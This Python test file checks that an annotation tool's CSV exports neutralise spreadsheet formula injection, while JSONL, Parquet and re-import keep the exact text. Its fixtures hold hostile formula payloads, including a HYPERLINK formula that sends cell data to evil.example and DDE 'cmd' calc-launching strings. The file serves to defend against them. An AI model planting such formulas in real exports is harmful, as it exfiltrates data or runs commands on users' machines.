"""No formula injection (issue 17, item 3): CSV exports of candidates, labels and the label history put a `'`
before text a spreadsheet would run; numbers stay numbers; JSONL and Parquet keep the exact text; importing our
own candidates CSV gives the original text back."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from sqlalchemy import Engine, update

from annotator.database.engine import get_engine, write_session
from annotator.database.models import Candidate, Problem
from annotator.import_export.exports import export
from annotator.import_export.formats import read
from annotator.import_export.importer import import_parts
from annotator.labelling import queue
from tests.support.candidates import add_candidates, add_user

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"more")'
# Each field of one candidate gets text a spreadsheet would run, or text that only looks like it.
HOSTILE = {
    "rewritten_question": HYPERLINK,
    "rewritten_condition": "+cmd|' /C calc'!A0",
    "unsolvable_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "extracted_condition": "-2+3+cmd|' /C calc'!A0",
    "question": "'=this one really starts with a quote",
    "solution": "\t=1+1",
}


@pytest.fixture
def hostile(engine: Engine) -> Engine:
    """Two candidates: math_0 with HOSTILE text and a negative ground truth stored as a number; math_1 plain,
    with a label whose comment is a formula."""
    ids = add_candidates(engine, 2, rewrite_types=("remove",))
    ann = add_user(engine, "ann")
    with write_session(engine) as session:
        fields = {name: text for name, text in HOSTILE.items() if name != "solution"}
        session.execute(update(Candidate).where(Candidate.id == ids[0]).values(**fields, ground_truth=-5))
        # The flat export writes a candidate's own question only: math_1 gets one too, so its row imports.
        session.execute(update(Candidate).where(Candidate.id == ids[1]).values(question="What is $x$?"))
        problem_id = session.get(Candidate, ids[0]).problem_id
        session.execute(update(Problem).where(Problem.id == problem_id).values(solution=HOSTILE["solution"]))
        queue.decide(session, annotator_id=ann.id, candidate_id=ids[1], human_check=0, difficulty_eval=None,
                     comment=HYPERLINK, seconds_spent=3.5)
        queue.decide(session, annotator_id=ann.id, candidate_id=ids[1], human_check=0, difficulty_eval=None,
                     comment="-1 is a number, -x is not", seconds_spent=3.5)
    return engine


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_candidates_csv_neutralises_formulas_and_imports_back_exactly(hostile: Engine, tmp_path: Path) -> None:
    export("csv", tmp_path / "csv", engine=hostile)
    first = _csv(tmp_path / "csv" / "candidates.csv")[0]
    for name, text in HOSTILE.items():
        assert first[name] == "'" + text, name  # as a spreadsheet opens it: text, with its quote
    assert first["ground_truth_json"] == "-5"  # a number stays a number
    assert first["label_count"] == "0" and first["data_id"] == "math_0_remove_1"

    # JSONL and Parquet keep the exact text.
    export("jsonl", tmp_path / "jsonl", engine=hostile)
    export("parquet", tmp_path / "parquet", engine=hostile)
    line = json.loads((tmp_path / "jsonl" / "candidates.jsonl").read_text(encoding="utf-8").splitlines()[0])
    row = pq.read_table(tmp_path / "parquet" / "candidates.parquet").to_pylist()[0]
    for name, text in HOSTILE.items():
        assert line[name] == row[name] == text, name
    assert line["ground_truth"] == -5 and row["ground_truth_json"] == "-5"

    # Importing our own CSV gives the original text back.
    fresh = get_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    import_parts(read(tmp_path / "csv" / "candidates.csv"), engine=fresh)
    export("jsonl", tmp_path / "again", engine=fresh)
    again = json.loads((tmp_path / "again" / "candidates.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert {name: again[name] for name in HOSTILE} == HOSTILE
    assert again["ground_truth"] == -5


@pytest.mark.parametrize("file_format", ["csv", "jsonl", "parquet"])
def test_label_comments_and_their_history(hostile: Engine, tmp_path: Path, file_format: str) -> None:
    export("labels", tmp_path, engine=hostile, options={"file_format": file_format, "with_history": True})
    labels_file, history_file = tmp_path / f"labels.{file_format}", tmp_path / f"label_history.{file_format}"
    if file_format == "csv":
        (label,), history = _csv(labels_file), _csv(history_file)
        assert label["comment"] == "'-1 is a number, -x is not" and label["seconds_spent"] == "7.0"
        assert [(e["old_comment"], e["new_comment"]) for e in history] == [
            ("", "'" + HYPERLINK), ("'" + HYPERLINK, "'-1 is a number, -x is not")]
        return
    if file_format == "jsonl":
        (label,) = [json.loads(line) for line in labels_file.read_text(encoding="utf-8").splitlines()]
        history = [json.loads(line) for line in history_file.read_text(encoding="utf-8").splitlines()]
    else:
        (label,), history = pq.read_table(labels_file).to_pylist(), pq.read_table(history_file).to_pylist()
    assert label["comment"] == "-1 is a number, -x is not"
    assert [(e["old_comment"], e["new_comment"]) for e in history] == [
        (None, HYPERLINK), (HYPERLINK, "-1 is a number, -x is not")]
